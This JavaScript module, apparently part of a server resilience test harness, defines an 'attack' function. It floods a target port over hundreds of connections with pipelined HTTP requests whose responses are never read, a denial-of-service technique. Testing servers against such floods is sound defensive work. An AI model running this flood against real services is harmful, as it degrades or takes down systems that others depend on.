// Requests one behind the other whose answers nobody reads.
import { drop, lanes, open, pump, requestText } from './wire_http.mjs';

export async function attack({ ports, until, port = 'extras', path = '/status', connections = 500 }) {
  const many = Buffer.from(requestText('GET', path).repeat(500));
  const said = { opened: 0, bytes: 0 };
  await lanes(connections, until, async () => {
    const socket = await open(ports[port]);
    if (!socket) return false;
    ++said.opened;
    socket.pause();
    said.bytes += await pump(socket, many, until);
    drop(socket);
  });
  return said;
}
